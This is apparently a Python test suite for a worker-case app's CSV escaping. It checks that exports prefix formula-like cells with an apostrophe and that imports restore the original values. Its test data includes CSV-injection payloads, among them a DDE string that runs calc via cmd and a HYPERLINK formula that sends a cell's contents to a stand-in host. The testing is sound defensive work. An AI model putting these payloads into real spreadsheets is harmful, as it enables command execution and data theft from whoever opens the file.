"""Every CSV file Pulang writes is safe to open in a spreadsheet: no cell starts with what a
spreadsheet runs as a formula (=, +, -, @, a tab, a carriage return) unless it is a plain
number; and a file Pulang wrote, read back by the worker-list import, gives back what was in it.

The expectations are written from the rule as the README states it, not by calling it.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from store.db.database import Database
from store.domain.csvcells import safe_cell, unquote_cell
from store.domain.matching import NameIndex
from store.domain.records import Case, LogEntry, Worker, build
from store.exchange.export import export_csv
from store.exchange.htcds import export_htcds
from store.exchange.worker_import import guess_mapping, preview, read_list, rows_left_out_csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")
HOSTILE = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://x.example/?"&A1,"x")', "=1+1",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-1+1", "+62 812 3456 7890", "'=1+1"]


def dangerous(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)


def cells_of(data: bytes, delimiter: str = ",") -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row]


def test_the_rule_on_the_cells_it_is_about() -> None:
    for text in HOSTILE[:-1]:
        assert safe_cell(text) == "'" + text
    for number in ("-12", "3.5", "-0,75", "0812", "2025"):
        assert safe_cell(number) == number
    for text in ("+5", "-5e3", "-5-5", "- 5", "Dewi", "'Dewi", ""):
        assert safe_cell(text) == ("'" + text if text.startswith(TRIGGERS) else text)
    assert safe_cell("'=1+1") == "''=1+1"  # read back as typed: '=1+1
    assert unquote_cell("'+62 812 3456 7890") == "+62 812 3456 7890"
    assert unquote_cell("'Dewi") == "'Dewi"  # an apostrophe Pulang did not add stays


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.,aZ é\n\";"), max_size=12)
       | st.text(max_size=30))
def test_no_cell_starts_like_a_formula_and_the_reader_gets_it_back(text: str) -> None:
    written = safe_cell(text)
    assert not dangerous(written)
    assert written in (text, "'" + text)
    if text.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(text):
        assert written == "'" + text
    if not text.startswith((*TRIGGERS, "'")):
        assert written == text
    assert unquote_cell(written) == text


def hostile_database(db: Database) -> None:
    """Hostile values in every free text of a case, a worker and a log entry."""
    case = db.save_case(build(Case, {"title": HOSTILE[0], "destination_country": "KH",
                                     "destination_place": HOSTILE[1], "tags": HOSTILE[2:4]}))
    worker = db.save_worker(build(Worker, {
        "case_id": case.id, "full_name": HOSTILE[2], "other_spellings": [HOSTILE[3]],
        "home_province": HOSTILE[0], "home_district": HOSTILE[6], "phone": "+62 812 3456 7890",
        "passport_number": HOSTILE[1], "notes": HOSTILE[4], "health": HOSTILE[5],
        "family_contact": HOSTILE[8]}))
    db.save_log_entry(build(LogEntry, {"case_id": case.id, "summary": HOSTILE[1],
                                "worker_ids": [worker.id]}))


def test_the_csv_export_holds_no_cell_a_spreadsheet_would_run(empty_db: Database) -> None:
    hostile_database(empty_db)
    for personal in (False, True):
        files = export_csv(empty_db, include_personal=personal)
        cells = [cell for data in files.values() for cell in cells_of(data)]
        assert not [cell for cell in cells if dangerous(cell)]
    workers = cells_of(files["workers.csv"])
    # what was written is there, behind its apostrophe: the phone number too
    assert "'=1+1" in workers and "'+6281234567890" in workers and "''=1+1" in workers
    assert "'-2+3+cmd|' /C calc'!A0" in cells_of(files["cases.csv"])


def test_the_htcds_export_holds_no_cell_a_spreadsheet_would_run(demo_db: Database) -> None:
    data, _report = export_htcds(demo_db, k=1)
    cells = cells_of(data)
    assert len(cells) > 30 and not [cell for cell in cells if dangerous(cell)]


def test_the_left_out_file_holds_no_cell_a_spreadsheet_would_run(empty_db: Database) -> None:
    case = empty_db.save_case(build(Case, {"title": "t", "destination_country": "KH"}))
    rows = ["=Nama;No. HP;@Catatan"]  # the header the officer gave, hostile too
    rows += [f"{text};12;{text}" for text in HOSTILE if "\t" not in text and "\r" not in text]
    rows += ['"\t=1+1";12;x', '"\r=1+1";12;x']
    listed = read_list(("\n".join(rows) + "\n").encode())
    mapping = ["full_name", "phone", "notes"]
    checked = preview(listed, mapping, case.id)
    bad = [r for r in checked if not r.ok]
    assert len(bad) == len(HOSTILE)  # every phone is too short
    data = rows_left_out_csv(bad, ["=Nama", "No. HP", "@Catatan"])
    cells = cells_of(data, ";")
    assert not [cell for cell in cells if dangerous(cell)]
    # the Problem column quotes the name first: hostile too, and made safe
    listed_again = read_list(data)
    problems = [row[-2] for row in listed_again.rows]  # the last: the row it was
    assert all(p.startswith("Phone: ") for p in problems)
    # A problem that starts with the name: "=1+1 is already a worker of this case".
    there = empty_db.save_worker(build(Worker, {"case_id": case.id, "full_name": "=1+1"}))
    same = preview(read_list(b"Nama\n=1+1\n"), ["full_name"], case.id,
                   [(there.id, there.all_names)])
    assert same[0].problems == ["=1+1 is already a worker of this case"]
    left_out = cells_of(rows_left_out_csv(same, None), ";")
    assert left_out == ["'=1+1", "'=1+1 is already a worker of this case", "2"]


def test_every_csv_writer_goes_through_the_one_rule() -> None:
    root = Path(__file__).parent.parent.parent
    writers = {str(path.relative_to(root)) for folder in ("store", "tui")
               for path in (root / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text("utf-8"))}
    assert writers == {"store/domain/csvcells.py"}


def test_a_left_out_file_fixed_and_imported_again_keeps_its_phone_numbers(
        empty_db: Database) -> None:
    case = empty_db.save_case(build(Case, {"title": "t", "destination_country": "KH"}))
    given_list = ("Nama;No. HP;Tanggal Lahir;Catatan\n"
                  "Dewi Anggraini;+62 812 3456 7890;31/02/2000;=from the shelter\n"
                  "Agus Setiawan;+62 813 1111 2222;1993-05-17;\n").encode()
    listed = read_list(given_list)
    rows = preview(listed, guess_mapping(listed), case.id)
    assert [r.ok for r in rows] == [False, True]
    left_out = rows_left_out_csv([rows[0]], listed.header)
    assert b";'+62 812 3456 7890;" in left_out  # a spreadsheet shows it as text
    fixed = left_out.replace(b"31/02/2000", b"28/02/2000")  # the officer's fix
    again = read_list(fixed)
    assert again.rows[0][:4] == ["Dewi Anggraini", "+62 812 3456 7890", "28/02/2000",
                                 "=from the shelter"]
    existing = [(w.id, w.all_names) for w in empty_db.workers_of(case.id)]
    [row] = preview(again, guess_mapping(again), case.id, existing, NameIndex(existing))
    assert row.ok and row.worker is not None
    assert (row.worker.phone, row.worker.notes) == ("+6281234567890", "=from the shelter")
